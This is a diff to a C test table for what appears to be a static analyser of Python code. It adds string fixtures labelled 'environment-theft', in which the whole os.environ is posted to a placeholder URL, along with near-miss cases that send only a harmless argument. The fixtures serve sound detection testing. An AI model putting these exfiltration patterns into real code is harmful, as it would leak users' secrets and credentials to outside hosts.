@@ -16,6 +16,13 @@ enum { P_IMPORT = CH_PLACE_IMPORT };
 #define TASK   "import requests\nfrom airflow.sdk import dag, task, task_group\n"
 #define CALLED "def f():\n    requests.get('http://example.org/')\nf()\n"
 
+#define THEFT  "environment-theft"
+#define SENDS_KEY                                                                                  \
+    "import os, requests\ndef listing(key, get=requests.get):\n"                                   \
+    "    get(U + '/models', headers={'Authorization': f'Bearer {key}'})\n"
+#define SENDS_SECOND                                                                               \
+    "import os, requests\ndef send(env, key):\n    requests.post(U, json={'key': f'{key}'})\n"
+
 const struct source_row source_row_near[] = {
     /* a docstring that shows what bidirectional controls do */
     {P_IMPORT, NULL,
@@ -219,6 +226,41 @@ const struct source_row source_row_near[] = {
     {P_IMPORT, "remote-code",
      "import io, pickle, requests\ndef f(u):\n    "
      "return pickle.load(io.BytesIO(requests.get(u).content), weights_only=True)\n"},
+    /* a function that is told the environment, and sends another of its arguments */
+    {P_IMPORT, NULL,
+     SENDS_KEY "def sync(env, key):\n    return listing(key)\n"
+               "def g():\n    sync(os.environ, 'k')\n"},
+    {P_IMPORT, NULL, SENDS_SECOND "def g():\n    send(os.environ, 'k')\n"},
+    {P_IMPORT, NULL, SENDS_SECOND "def g():\n    send(key='k', env=dict(os.environ))\n"},
+    {P_IMPORT, NULL,
+     "import os, requests\nclass C:\n    def send(self, env, key):\n"
+     "        requests.post(U, json={'k': key})\n"
+     "def g():\n    C().send(os.environ, 'k')\n"},
+    {P_IMPORT, THEFT, SENDS_KEY "listing(os.environ)\n"},
+    {P_IMPORT, THEFT, SENDS_SECOND "send('k', os.environ)\n"},
+    {P_IMPORT, THEFT, SENDS_SECOND "send(env='k', key=dict(os.environ))\n"},
+    {P_IMPORT, THEFT, SENDS_SECOND "send(*['k', os.environ])\n"},
+    {P_IMPORT, THEFT, SENDS_SECOND "send('k', **{'key': os.environ})\n"},
+    {P_IMPORT, THEFT, SENDS_SECOND "import functools\nfunctools.partial(send, 'k')(os.environ)\n"},
+    {P_IMPORT, THEFT,
+     "import os, requests\ndef send(*keys):\n    requests.post(U, json=keys)\n"
+     "send('k', os.environ)\n"},
+    {P_IMPORT, THEFT,
+     "import os, requests\ndef send(a, *, b, **keys):\n"
+     "    requests.post(U, json=keys)\nsend('k', b=1, c=os.environ)\n"},
+    {P_IMPORT, THEFT,
+     "import os, requests\ndef send(a, *, b):\n    requests.post(U, json={'b': f'{b}'})\n"
+     "send('k', b=os.environ)\n"},
+    {P_IMPORT, THEFT,
+     "import os, requests\nclass C:\n    def send(self, key, env):\n"
+     "        requests.post(U, json={'k': env})\n"
+     "C().send('k', os.environ)\n"},
+    {P_IMPORT, THEFT,
+     "import os, requests\ndef same(a, b):\n    return f'{b}'\n"
+     "requests.post(U, json=same('k', os.environ))\n"},
+    {P_IMPORT, NULL,
+     "import os, requests\ndef same(a, b):\n    return f'{a}'\ndef g():\n"
+     "    requests.post(U, json=same('k', os.environ))\n"},
 };
 
 const size_t source_row_near_count = CH_ARRAY_LEN(source_row_near);
